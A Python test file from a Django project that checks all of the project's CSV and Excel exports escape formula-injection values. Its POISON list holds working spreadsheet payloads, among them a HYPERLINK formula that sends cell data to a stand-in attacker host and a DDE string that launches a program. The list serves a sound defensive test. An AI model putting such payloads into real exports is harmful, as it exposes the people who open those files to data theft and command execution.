"""Every CSV and Excel export, walked with poisoned records: no cell of any of them may run as a
formula. The list of exports is explicit, and a test fails when a module starts writing CSV or
a workbook without being added to it (and so to this walk)."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from hefboom.actors.models import Membership, MembershipKind, Organisation, OrganisationType
from hefboom.core.actions import save_record
from hefboom.core.spreadsheet import is_formula_like, neutralise
from hefboom.monitoring import exports as monitoring_exports
from hefboom.monitoring.models import (
    Activity,
    ActivityType,
    ChangeType,
    Channel,
    Contact,
    Outcome,
    Output,
    OutputType,
)
from hefboom.reporting.formats import build
from hefboom.strategy.models import Dossier
from hefboom.synergy.exports import member_workbook

SRC = Path(__file__).resolve().parents[1] / "src" / "hefboom"

# Every module that writes CSV or a workbook for people to open, and the export(s) it makes.
# A new one must be added here, and to `exported_tables` below.
EXPORT_MODULES = {
    "monitoring/exports.py": "record lists as CSV and xlsx (contacts, activities, outputs, outcomes)",
    "reporting/workbook.py": "the yearly report workbook (and reporting.workbook.Sheet)",
    "synergy/exports.py": "the member involvement workbook (through reporting.workbook.Sheet)",
    "listening/exports.py": "listening's trend tables, corpus texts, mentions and alerts (CSV and xlsx)",
}
WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|WriteOnlyCell\(|text/csv|xlsxwriter")

# Invented, hostile values: each would run as a formula if written as is.
POISON = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(\"x\")",  # full-width equals sign
]


def test_every_module_that_writes_csv_or_a_workbook_is_walked():
    writers = {
        str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
        if "tests" not in path.parts and WRITERS.search(path.read_text())
    }
    assert writers == set(EXPORT_MODULES), (
        "A module writes CSV or a workbook: write its cells through core.spreadsheet.neutralise "
        "and add it to EXPORT_MODULES and exported_tables in this test.")
    for module in writers - {"reporting/workbook.py"}:
        source = (SRC / module).read_text()
        assert ("from hefboom.core.spreadsheet import neutralise" in source
                or "from hefboom.reporting.workbook import" in source), module


@pytest.mark.parametrize("value", POISON)
def test_each_poisoned_value_is_neutralised(value):
    assert neutralise(value) == "'" + value
    assert not is_formula_like(neutralise(value))


@pytest.mark.parametrize("value", ["gewoon", "3 + 4", "e-mail", "", " ", 3, -2, 2.5, None,
                                   dt.date(2024, 1, 1)])
def test_ordinary_values_are_left_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def poisoned(alice, programme, theme, dossier, cabinet):
    """Records whose texts (and the names they show) are all poisoned."""
    texts = iter(POISON * 4)
    Dossier.objects.filter(pk=dossier.pk).update(name=next(texts))
    dossier.refresh_from_db()
    Organisation.objects.filter(pk=cabinet.pk).update(name=next(texts))
    member = save_record(Organisation(name=next(texts), type=OrganisationType.MEMBER_ORGANISATION),
                         None)
    save_record(Membership(organisation=member, kind=MembershipKind.MEMBER,
                           start_date=dt.date(2020, 1, 1)), None)
    day = dt.date(2024, 3, 4)
    for _ in range(2):
        save_record(Contact(date=day, channel=Channel.MEETING, summary=next(texts)), alice,
                    m2m={"our_participants": [alice], "dossiers": [dossier],
                         "organisations": [cabinet], "partners": [member]})
        save_record(Activity(date=day, title=next(texts), type=ActivityType.LOBBY), alice,
                    m2m={"dossiers": [dossier], "partners": [member]})
        save_record(Output(date=day, title=next(texts), type=OutputType.REPORT), alice,
                    m2m={"dossiers": [dossier], "partners": [member]})
        save_record(Outcome(date=day, title=next(texts), description=next(texts),
                            significance=next(texts), change_type=ChangeType.POLICY_CONTENT),
                    alice, m2m={"dossiers": [dossier]})
    return programme


def _csv(content: bytes) -> list[list]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx(content: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(content))
    formulas = [c.coordinate for sheet in workbook for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert not formulas, f"cells stored as formulas: {formulas}"
    return [list(row) for sheet in workbook for row in sheet.iter_rows(values_only=True)]


def exported_tables(user, programme) -> dict[str, list[list]]:
    """Every export, by name, as rows of cell values."""
    tables = {}
    for kind, model in (("contacts", Contact), ("activities", Activity), ("outputs", Output),
                        ("outcomes", Outcome)):
        for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
            response = monitoring_exports.export_response(kind, model.objects.all(), fmt)
            tables[f"monitoring {kind} {fmt}"] = read(response.content)
    tables["reporting yearly workbook"] = _xlsx(build(programme, 2024, "xlsx", "en"))
    tables["synergy member workbook"] = _xlsx(member_workbook(user)[0])
    tables.update(_listening_tables(user))
    return tables


def _listening_tables(user) -> dict[str, list[list]]:
    """Mentions and alerts whose texts come from strangers on the web, exported by listening's
    export view (the same writer exports trend tables and corpus texts)."""
    from django.test import RequestFactory

    from hefboom.listening.models import Alert, Mention
    from hefboom.listening.views import export

    texts = iter(POISON * 2)
    when = dt.datetime(2024, 3, 4, tzinfo=dt.UTC)
    Mention.objects.create(item_id="x", published=when, source="csv", kind="post",
                           title=next(texts), snippet=next(texts), author=next(texts),
                           target_kind="organisation", ref=next(texts))
    Alert.objects.create(kind="debate", item_id="x", thread="x", published=when, title=next(texts),
                         snippet=next(texts), author=next(texts))
    tables = {}
    for kind in ("mentions", "alerts"):
        for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
            request = RequestFactory().get("/", {"format": fmt, "status": "all"})
            request.user = user
            tables[f"listening {kind} {fmt}"] = read(export(request, kind, 0).content)
    return tables


def test_no_cell_of_any_export_can_run_as_a_formula(poisoned, alice):
    tables = exported_tables(alice, poisoned)
    for name, table in tables.items():
        cells = [c for row in table for c in row if isinstance(c, str)]
        assert [c for c in cells if is_formula_like(c)] == [], name
        # The poison did reach the export, as text: the walk really tested something.
        assert any(c.startswith("'") and is_formula_like(c[1:]) for c in cells), name
